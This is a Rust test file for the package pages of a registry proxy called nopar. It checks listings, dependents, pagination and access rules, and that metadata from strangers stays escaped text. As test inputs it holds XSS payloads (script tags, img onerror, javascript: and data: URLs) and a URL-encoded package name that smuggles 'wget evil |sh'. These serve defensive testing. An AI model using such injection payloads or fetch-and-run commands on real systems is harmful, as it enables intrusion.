//! The page of a package: what is on it, for whom, and that nothing in it is more than text.
//! Knows nothing of how it is made.

use serde_json::json;

use super::{assert_page, page, page_with, plain};
use crate::access::{login, of, with_users_before};
use crate::support::nopar::TestNopar;
use crate::support::publish::Publish;
use crate::support::upstream::FakeUpstream;

/// What must stay text wherever it stands.
const EVIL: &str = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&";

#[track_caller]
fn assert_has(page: &str, parts: &[&str]) {
    for part in parts {
        assert!(page.contains(part), "{part}: {page}");
    }
}

#[tokio::test]
async fn a_copy_is_told_of_without_asking_for_anything() {
    let upstream = FakeUpstream::start().await;
    upstream
        .package("left")
        .version("1.0.0", |v| v.field("deprecated", json!("use another")))
        .version("2.0.0", |v| {
            v.field("description", json!("Goes left"))
                .field("license", json!("MIT"))
                .field(
                    "repository",
                    json!({"type": "git", "url": "git+ssh://git@git.example/a/left.git"}),
                )
                .field("homepage", json!("https://left.example/"))
                .field("dependencies", json!({"old": "^1.0.0", "gone": "^3.0.0"}))
        })
        .version("3.0.0-rc.1", |v| v)
        .tag("latest", "1.0.0")
        .tag("next", "2.0.0")
        .field("maintainers", json!([{"name": "ann", "email": "ann@mail.example"}]))
        .readme("# Left\n\n[docs](docs/a.md) ![logo](https://i.example/l.png)");
    upstream
        .package("old")
        .version("2.0.0", |v| v.field("dependencies", json!({"left": "~0.9.0"})));
    let nopar = TestNopar::with(&upstream).start().await;
    for path in ["/left", "/old", "/left/-/left-2.0.0.tgz"] {
        nopar.get(path).await.expect(200);
    }
    page_with(&nopar, "/-/packages/proxied", "2 packages").await;
    upstream.clear();
    let answer = page(&nopar, "/-/package/left").await;
    assert_page(&answer, 200, "left");
    let latest = answer.text();
    assert_has(
        &latest,
        &[
            "<span class=\"muted\">1.0.0</span>",
            "<b>Deprecated:</b> use another",
            "tag-proxied",
            "<code id=\"install-npm\">npm install left</code>",
            "Once <a href=\"/#h-clients\">your client is pointed here</a>",
            "<a href=\"#versions\">Versions <span class=\"muted\">3</span></a>",
            "<a href=\"#dependents\">Dependents <span class=\"muted\">1</span></a>",
            "<code id=\"install-deno\">deno add npm:left</code>",
            "highest is 2.0.0",
            "<h3 id=\"readme-left\">Left</h3>",
            "href=\"https://i.example/l.png\">logo</a>",
            ">ann</bdi></dd>",
            "3.0.0-rc.1",
            "not held",
            "href=\"/left\"",
            "href=\"/left/-/left-1.0.0.tgz\"",
            // It needs one that is older than all there are.
            "<a href=\"/-/package/old\">old</a>",
            "<td data-name=\"Range\">~0.9.0 <span class=\"tag\">outdated</span></td>",
        ],
    );
    assert!(!latest.contains("<img") && !latest.contains("ann@mail"), "{latest}");
    assert!(!latest.contains("install-at-once"), "an upstream has it as well: {latest}");
    let second = page(&nopar, "/-/package/left?version=2.0.0").await.expect(200).text();
    assert_has(
        &second,
        &[
            "This is not the latest version.",
            "<p>Goes left</p>",
            "npm install left@2.0.0",
            "<dd>MIT</dd>",
            "<a href=\"https://git.example/a/left\" rel=\"nofollow noopener noreferrer\">git.example/a/left</a>",
            "href=\"https://left.example/\"",
            "<td data-name=\"Range\">^1.0.0</td><td data-name=\"Latest held\">2.0.0 <span class=\"tag\">outdated</span></td>",
            "<th scope=\"row\">gone</th><td data-name=\"Range\">^3.0.0</td><td class=\"none\" data-name=\"Latest held\"></td>",
            "<a href=\"/-/package/left/files/2.0.0\">held</a>",
        ],
    );
    assert_page(&page(&nopar, "/-/package/left?version=9.9.9").await, 404, "no version");
    assert_eq!(upstream.count_all(), 0);
}

#[tokio::test]
async fn what_is_not_held_is_not_fetched_by_a_page() {
    let upstream = FakeUpstream::start().await;
    upstream.package("right").version("1.0.0", |v| v);
    let nopar = TestNopar::with(&upstream).env("NOPAR_LOCAL_PACKAGES", "@acme/*").start().await;
    let answer = page(&nopar, "/-/package/right").await;
    assert_page(&answer, 404, "right");
    assert_has(&answer.text(), &["npm view right --registry", "/-/package/right/refresh"]);
    let json = nopar.get("/-/package/right").await;
    assert_eq!((json.status, json.header("content-type")), (404, Some("application/json")));
    // A claimed name is nobody else's to be asked for.
    let claimed = page(&nopar, "/-/package/@acme/ui").await;
    assert_page(&claimed, 404, "claimed");
    assert!(!claimed.text().contains("/-/package/@acme/ui/refresh"));
    // Whoever copies what stands on a page that they were led to has a shell do nothing else.
    let odd = page(&nopar, "/-/package/x%20%7C%7C%20wget%20evil%20%7Csh").await;
    assert_page(&odd, 404, "odd");
    assert!(!odd.text().contains("npm view"), "{}", odd.text());
    assert_page(&page(&nopar, "/-/package/right/files/1.0.0").await, 404, "files");
    assert_eq!(upstream.count_all(), 0);
}

#[tokio::test]
async fn what_strangers_write_stays_text() {
    let upstream = FakeUpstream::start().await;
    upstream
        .package("evil")
        .version("1.0.0", |v| {
            v.field("description", json!(EVIL))
                .field("license", json!(EVIL))
                .field("homepage", json!("javascript:alert(1)"))
                .field("bugs", json!({"url": "data:text/html,x"}))
                .field("repository", json!(EVIL))
                .field("author", json!({"name": EVIL}))
                .field("keywords", json!([EVIL]))
                .field("engines", json!({EVIL: EVIL}))
                .field("deprecated", json!(EVIL))
                .field("dependencies", json!({"a": EVIL}))
        })
        .tag(EVIL, "1.0.0")
        .field("maintainers", json!([{"name": EVIL}]))
        .time("1.0.0", EVIL)
        .readme(&format!(
            "{EVIL}\n\n[x](javascript:alert(1)) <a href='javascript:alert(1)' onclick=x>y</a>"
        ));
    let nopar = TestNopar::with(&upstream).start().await;
    nopar.get("/evil").await.expect(200);
    for path in
        ["/-/package/evil", "/-/package/evil?version=1.0.0", "/-/package/evil?version=%3Cscript%3E"]
    {
        let text = page(&nopar, path).await.text();
        for part in [
            "<script>alert",
            "<img",
            "href=\"javascript:",
            "href=\"data:",
            " onclick=",
            "title=\"<",
        ] {
            assert!(!text.contains(part), "{path} {part}: {text}");
        }
    }
}

#[tokio::test]
async fn own_packages_have_pages_for_who_may_read_them() {
    let upstream = FakeUpstream::start().await;
    let rules = "[[rule]]\npackages = [\"@hidden/*\"]\nread = [\"ann\"]\n";
    let nopar = with_users_before(&upstream, rules, &[]).await;
    let ann = login(nopar.addr(), "ann").await;
    let hidden = Publish::of("@hidden/a", "1.0.0").field("dependencies", json!({"open": "^1"}));
    let open = Publish::of("open", "2.0.0").field("readme", json!("Hello *there*"));
    for publish in [hidden, open] {
        of(publish.to(nopar.addr()), Some(&ann)).send().await.expect(201);
    }
    let shown = page(&nopar, "/-/package/open").await;
    assert_page(&shown, 200, "open");
    assert_has(
        &shown.text(),
        &[
            "tag-local",
            "Hello <em>there</em>",
            "Dependents among what is held (0)",
            &format!(
                "<code id=\"install-at-once\">npm install open --registry http://{}/</code>",
                nopar.addr()
            ),
        ],
    );
    let hidden = page(&nopar, "/-/package/@hidden/a").await;
    let absent = page(&nopar, "/-/package/@hidden/b").await;
    assert_eq!(hidden.status, 404);
    assert_eq!(plain(&hidden).replace("@hidden/a", "@hidden/b"), plain(&absent));
    assert_eq!(upstream.count("/@hidden%2fa"), 0);
}

/// Who needs it in two ways is told of twice, and who needs it for development as well.
#[tokio::test]
async fn dependents_are_told_in_each_way_in_which_they_need_it() {
    let upstream = FakeUpstream::start().await;
    upstream.package("base").version("2.0.0", |v| v);
    upstream.package("far").version("1.0.0", |v| {
        v.field("peerDependencies", json!({"base": "^1.0.0"}))
            .field("devDependencies", json!({"base": "^2.0.0"}))
    });
    let nopar = TestNopar::with(&upstream).start().await;
    let near = Publish::of("near", "1.0.0").field("devDependencies", json!({"base": "*"}));
    near.field("dependencies", json!({"base": "~2.0.0"})).succeed(nopar.addr()).await;
    for path in ["/base", "/far"] {
        nopar.get(path).await.expect(200);
    }
    page_with(&nopar, "/-/packages/proxied", "2 packages").await;
    let text = page(&nopar, "/-/package/base").await.expect(200).text();
    assert_has(
        &text,
        &[
            "Dependents among what is held (4)",
            "<td data-name=\"Needs it as\">peer</td><td data-name=\"Range\">^1.0.0 <span class=\"tag\">outdated</span></td>",
            "<td data-name=\"Needs it as\">development</td><td data-name=\"Range\">^2.0.0</td>",
            "<td data-name=\"Needs it as\">dependency</td><td data-name=\"Range\">~2.0.0</td>",
            "<td data-name=\"Needs it as\">development</td><td data-name=\"Range\">*</td>",
        ],
    );
}

/// What is held of many versions was on any of 70 pages.
#[tokio::test]
async fn held_versions_are_found_and_have_a_size() {
    let upstream = FakeUpstream::start().await;
    let mut package = upstream.package("many");
    for number in 0..120 {
        package = package.version(&format!("1.0.{number}"), |v| v.tarball_size(3000));
    }
    let nopar = TestNopar::with(&upstream).start().await;
    Publish::of("own", "1.0.0").succeed(nopar.addr()).await;
    for path in ["/many", "/many/-/many-1.0.7.tgz"] {
        nopar.get(path).await.expect(200);
    }
    page_with(&nopar, "/-/packages/proxied", "1 of 120").await;
    let text = page(&nopar, "/-/package/many").await.expect(200).text();
    let at = |version: &str| text.find(&format!("?version={version}\"")).expect(version);
    assert!(at("1.0.7") < at("1.0.118"), "{text}");
    let link = "<a href=\"/-/package/many?versions=1&#38;held#versions\">Only what is held (1)</a>";
    assert_has(&text, &[link, "2.9 KiB packed", ">Next</a>", ">Last</a>"]);
    let held = page(&nopar, "/-/package/many?versions=1&held").await.expect(200).text();
    assert_has(&held, &["What is held: ", ">All versions</a>", "1.0.7"]);
    assert!(!held.contains("?version=1.0.118\""), "{held}");
    let own = page(&nopar, "/-/package/own").await.expect(200).text();
    assert_has(&own, &["<td class=\"number\" data-name=\"Size\">1.0 KiB packed</td>"]);
}

#[tokio::test]
async fn many_versions_come_in_pages() {
    let upstream = FakeUpstream::start().await;
    let mut package = upstream.package("many");
    for number in 0..120 {
        package = package.version(&format!("1.0.{number}"), |v| v);
    }
    let nopar = TestNopar::with(&upstream).start().await;
    nopar.get("/many").await.expect(200);
    let first = page(&nopar, "/-/package/many").await.expect(200).text();
    assert_has(
        &first,
        &["Versions (120)", "page 1 of 3", "href=\"/-/package/many?versions=2#versions\""],
    );
    let last = page(&nopar, "/-/package/many?versions=99").await.expect(200).text();
    assert_has(&last, &["page 3 of 3", "href=\"/-/package/many?versions=2#versions\""]);
    assert!(!last.contains("rel=\"next\""));
}

#[tokio::test]
async fn what_is_too_much_for_a_page_is_said_to_be() {
    let upstream = FakeUpstream::start().await;
    let needs = |count: usize| {
        let needs = (0..count).map(|number| (format!("need-{number}"), json!("^1.0.0")));
        serde_json::Value::Object(needs.collect())
    };
    let mut package = upstream
        .package("much")
        .version("1.0.0", |v| v.field("dependencies", needs(600)))
        .version("2.0.0", |v| v.field("dependencies", needs(5000)));
    for number in 0..20 {
        let long = format!("1.0.{number}-{}", "x".repeat(50_000));
        package = package.version(&long, |v| v);
    }
    let nopar = TestNopar::with(&upstream).start().await;
    nopar.get("/much").await.expect(200);
    let page_of = async |version: &str| {
        page(&nopar, &format!("/-/package/much?version={version}")).await.expect(200).text()
    };
    let some = page_of("1.0.0").await;
    assert_has(
        &some,
        &[
            "<caption>Dependencies (500)</caption>",
            "There are more, too many to be listed: all are in the <a href=\"/much/1.0.0\">manifest</a>.",
            "20 more versions are in the document only.",
        ],
    );
    assert!(some.len() < 1 << 20, "{}", some.len());
    let none = page_of("2.0.0").await;
    assert_has(
        &none,
        &["There are too many to be listed: all are in the <a href=\"/much/2.0.0\">"],
    );
    let needs = none.split("id=\"dependents\"").next().unwrap_or_default();
    assert!(!needs.contains("<p class=\"muted\">None.</p>"), "{needs}");
}
